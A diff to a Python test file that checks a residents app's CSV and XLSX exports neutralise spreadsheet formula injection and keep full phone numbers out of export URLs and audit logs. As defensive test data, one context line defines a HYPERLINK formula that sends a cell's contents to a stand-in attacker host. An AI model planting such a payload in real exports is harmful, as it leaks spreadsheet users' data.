@@ -27,6 +27,13 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\t=1", "'\t=1"),
         ("\r=1", "'\r=1"),
+        ("\tplain", "'\tplain"),
+        (" =1+1", "' =1+1"),  # some programs trim spaces before reading a formula
+        ("\n@SUM(A1)", "'\n@SUM(A1)"),
+        ("\u3000-1", "'\u3000-1"),
+        ("\x01=1+1", "'\x01=1+1"),
+        ("a=1", "a=1"),
+        (" 张三", " 张三"),
         ("张三", "张三"),
         ("1栋 502", "1栋 502"),
         ("", ""),
@@ -47,6 +54,23 @@ def test_write_xlsx_neutralises_formulas():
     assert rows[0] == ("名字", "'=B", "n", "d")
     assert rows[1][0] == "'" + EVIL and rows[1][1] == "'+1" and rows[1][2] == 3
     assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_write_xlsx_removing_control_characters_cannot_uncover_a_formula():
+    """openpyxl cannot store control characters, so they are removed: before the formula
+    check, else "\x01=1+1" became the formula =1+1."""
+    data = exports.write_xlsx([["\x01=1+1", "\x02@x", " -2"]], ["a", "b", "c"])
+    sheet = load_workbook(io.BytesIO(data)).active
+    row = list(sheet.iter_rows(min_row=2))[0]
+    assert [c.value for c in row] == ["'=1+1", "'@x", "' -2"]
+    assert all(c.data_type == "s" for c in row)
+
+
+def test_write_csv_neutralises_every_owasp_lead():
+    leads = ["=1", "+1", "-1", "@x", "\t=1", "\r=1", " =1"]
+    data = exports.write_csv([leads], ["a"] * len(leads))
+    (row,) = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
+    assert row == ["'" + v for v in leads]
 
 
 def test_write_csv_neutralises_formulas_and_has_a_bom():
@@ -96,12 +120,19 @@ def test_masked_export_of_the_list(registry, world, client):
 
 def test_export_follows_the_filters_and_records_them(registry, client):
     client.force_login(registry["actor"])
-    rows = _rows(client.get("/people/export/?tag=living_alone&q=13811110000"))
+    # A whole number reaches the export only as the search's token, never in the URL …
+    listed = client.post("/people/", {"tag": "living_alone", "q": "13811110000"})["Location"]
+    assert "13811110000" not in listed and "qt=" in listed
+    rows = _rows(client.get("/people/export/?" + listed.split("?", 1)[1]))
     assert len(rows) == 2
     record = AuditRecord.objects.get(action="resident.export")
     assert record.changes["filter"] == {"q": "138****0000", "tag": ["living_alone"]}
     assert record.changes["count"] == 1
     assert "13811110000" not in str(record.changes)
+    # … and a whole number in the export's own query string is refused, nothing exported.
+    refused = client.get("/people/export/?tag=living_alone&q=13811110000")
+    assert refused.status_code == 302 and refused["Location"] == "/people/"
+    assert AuditRecord.objects.filter(action="resident.export").count() == 1
 
 
 def test_csv_export(registry, client):
